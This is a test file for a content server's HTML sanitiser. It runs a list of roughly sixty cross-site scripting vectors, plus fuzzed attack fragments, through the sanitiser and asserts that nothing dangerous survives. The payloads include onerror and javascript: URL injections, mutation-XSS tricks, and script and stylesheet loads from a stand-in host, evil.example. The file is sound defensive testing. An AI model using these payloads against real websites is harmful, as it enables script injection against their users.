import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isEmbedUrl } from '#server/content/html/embeds.ts';
import { inlineHtml, postHtml } from '#server/content/html/post-html.ts';
import { htmlRules, tree } from './html-rules.ts';

const allowedNames = new Set(
  (
    'p h2 h3 h4 h5 h6 blockquote ul ol li dl dt dd pre hr br wbr a b strong i em u s del ins sub sup small mark abbr cite q ' +
    'time code kbd samp var bdi bdo ruby rt rp span div section address figure figcaption picture source img video audio ' +
    'details summary table caption colgroup col thead tbody tfoot tr th td'
  ).split(' '),
);
const mediaHosts = new Set([
  '127.0.0.1:2368',
  'images.unsplash.com',
  'www.example.com',
  'cdn.example.com',
  'photos.example.org',
]);

/** Everything in a piece of HTML that must never reach a page. */
function faults(html: string): string[] {
  return tree(html)
    .querySelectorAll('*')
    .flatMap((element) => {
      const name = element.rawTagName.toLowerCase();
      const attributes = Object.entries(element.attributes).map(([key, value]) => [key.toLowerCase(), value] as const);
      return [
        ...(allowedNames.has(name) ? [] : [`element ${name}`]),
        ...attributes
          .filter(([key, value]) => dangerous(name, key, value))
          .map(([key, value]) => `${name} ${key}=${value}`),
      ];
    });
}

function dangerous(name: string, key: string, value: string): boolean {
  if (
    key.startsWith('on') ||
    ['style', 'srcdoc', 'formaction', 'action', 'target', 'is', 'slot', 'xmlns'].includes(key)
  )
    return true;
  if (key === 'id') return !value.startsWith('post-');
  if (key === 'href') return !/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(value);
  if (key === 'src' || key === 'poster') return !mediaHosts.has(hostOf(value));
  if (key === 'srcset')
    return value.split(/,\s+/).some((candidate) => !mediaHosts.has(hostOf(candidate.split(' ')[0]!)));
  if (key === 'data-embed-src') return name !== 'div' || !isEmbedUrl(value);
  return false;
}

function hostOf(address: string): string {
  return URL.canParse(address) ? new URL(address).host : '';
}

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://images.unsplash.com/a.jpg" onload="alert(1)" style="x:expression(alert(1))">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/jNQXAC9IVRw"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/jNQXAC9IVRw"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<div class="embed" data-embed-src="https://evil.example/">x</div>',
  '<div class="embed" data-embed-src="javascript:alert(1)">x</div>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=ssn autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)><source onerror=alert(1) src="javascript:1"></video>',
  '<audio src="data:audio/wav;base64,AA" autoplay onplay=alert(1)></audio>',
  '<picture><source srcset="https://evil.example/x.jpg"><img src="https://images.unsplash.com/a.jpg"></picture>',
  '<img src="https://images.unsplash.com/a.jpg" srcset="https://evil.example/b.jpg 2x">',
  '<img src="https://images.unsplash.com@evil.example/a.jpg"><img src="https://images.unsplash.com.evil.example/a.jpg">',
  '<img src="//evil.example/a.jpg"><img src="http://images.unsplash.com/a.jpg"><img src="https:evil.example/a.jpg">',
  '<p id="theme" class="sr-only site-header kg-x">x</p><h2 id="__proto__">x</h2><a name="location" id="location">x</a>',
  '<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)" style="background:url(javascript:alert(1))">x',
  '<div style="position:fixed;inset:0" contenteditable draggable="true">x</div>',
  '<a href="#" onclick="alert(1)" target="_blank">x</a>',
  '<p title="&quot;onmouseover=&quot;alert(1)">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--kg-card-begin: html--><!--kg-card-end: html--><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo "<img src=x onerror=alert(1)>" ?>',
  '<div class="kg-card kg-toggle-card"><h4 class="kg-toggle-heading-text"><img src=x onerror=alert(1)></h4></div>',
  '<figure class="kg-card kg-video-card" data-kg-thumbnail="javascript:alert(1)"><video src="javascript:alert(1)"></video></figure>',
  '<div class="kg-card kg-audio-card"><audio src="https://evil.example/a.mp3"></audio><div class="kg-audio-title">"><script>alert(1)</script></div></div>',
  '<pre><code class="language-html">&lt;img src=x onerror=alert(1)&gt;</code></pre>',
  `<a href="${'https://e.example/?'.padEnd(3000, '<')}">x</a>`,
];

describe('sanitising', () => {
  it.each(vectors)('makes a body harmless: %s', async (vector) => {
    const { html } = await postHtml(vector, htmlRules);
    expect(faults(html)).toEqual([]);
  });

  it.each(vectors)('makes a caption harmless: %s', (vector) => {
    expect(faults(inlineHtml(vector, htmlRules) ?? '')).toEqual([]);
  });

  it('is checked by a test that finds what is harmful', () => {
    const bad =
      '<script>1</script><p onclick="x" id="top" style="a">x</p><a href="javascript:1">x</a><img src="https://evil.example/x">';
    expect(faults(bad)).toHaveLength(6);
  });

  it('stays harmless when it is applied twice', async () => {
    for (const vector of vectors) {
      const once = (await postHtml(vector, htmlRules)).html;
      expect(faults((await postHtml(once, htmlRules)).html)).toEqual([]);
    }
  });

  it('copes with any markup', async () => {
    await fc.assert(
      fc.asyncProperty(markup, async (source) => {
        const { html } = await postHtml(source, htmlRules);
        expect(faults(html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('copes with deep nesting and large bodies', async () => {
    const { html } = await postHtml(`${'<div><b>'.repeat(20_000)}deep${'</b></div>'.repeat(20_000)}`, htmlRules);
    expect(html).toContain('deep');
    const wide = await postHtml('<p>a paragraph <a href="https://www.irs.gov/">link</a></p>'.repeat(5_000), htmlRules);
    expect(wide.html.match(/<p>/g)).toHaveLength(5_000);
  });
});

const piece = fc.constantFrom(
  ...[
    '<',
    '</',
    '>',
    '/>',
    '"',
    "'",
    '`',
    '=',
    '&',
    '&lt;',
    '&#x3c;',
    '&quot;',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '\n',
    '\0',
    ' ',
  ],
  ...[
    'script',
    'style',
    'svg',
    'math',
    'mtext',
    'mglyph',
    'foreignObject',
    'annotation-xml',
    'title',
    'textarea',
    'noscript',
  ],
  ...[
    'iframe',
    'img',
    'a',
    'p',
    'table',
    'td',
    'select',
    'option',
    'template',
    'form',
    'video',
    'picture',
    'source',
    'details',
  ],
  ...[
    '<svg><style>',
    '<math><mi>',
    '<table><tr><td>',
    '<select><',
    '<noscript><p title="',
    '</textarea>',
    '</title>',
    '</style>',
  ],
  ...[
    ' src=x',
    ' src="https://evil.example/x"',
    ' onerror=alert(1)',
    ' href="javascript:alert(1)"',
    ' style="x"',
    ' id=top',
  ],
  ...[
    ' class="kg-card kg-toggle-card"',
    ' class="kg-card kg-audio-card"',
    ' srcset="https://evil.example/a 1w"',
    'text',
    'é税',
  ],
);
const markup = fc
  .array(fc.oneof({ weight: 8, arbitrary: piece }, fc.string({ maxLength: 4 })), { maxLength: 40 })
  .map((parts) => parts.join(''));
